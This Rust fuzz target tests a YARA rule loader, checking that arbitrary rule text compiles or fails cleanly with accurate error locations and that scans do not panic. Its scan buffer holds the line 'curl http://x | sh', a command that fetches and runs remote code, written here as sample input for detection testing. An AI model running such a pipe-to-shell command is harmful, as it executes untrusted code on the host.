//! Fuzzes the YARA rule loader (`shrike_yara::Rules`): any text as a rule file must compile or
//! fail without panicking; a failure names the file and, when it has one, a line and column
//! inside the text; compiled rules scan a small buffer (bounded by the 1 s timeout) without
//! panicking, and every match names a rule of the file.
#![no_main]

use libfuzzer_sys::fuzz_target;
use shrike_yara::{Limits, Rules};

fuzz_target!(|data: &[u8]| {
    let text = String::from_utf8_lossy(data);
    match Rules::from_sources(&[("fuzz.yar", &text)]) {
        Err(e) => {
            assert_eq!(e.path, "fuzz.yar");
            assert!(!e.message.is_empty());
            if let Some(line) = e.line {
                assert!(line >= 1 && line <= text.lines().count().max(1) + 1, "{e}");
                assert!(e.column.is_some_and(|c| c >= 1), "{e}");
            }
            assert!(e.to_string().starts_with("fuzz.yar"), "{e}");
        }
        Ok(rules) => {
            let buffer = b"\x7fELF\x02\x01\x01\x00 #!/bin/sh\ncurl http://x | sh\n";
            if let Ok(found) = rules.scan(buffer, &Limits::default()) {
                for m in found {
                    assert_eq!(m.file, "fuzz.yar");
                    assert!(text.contains(&m.rule), "{m:?}");
                }
            }
        }
    }
});
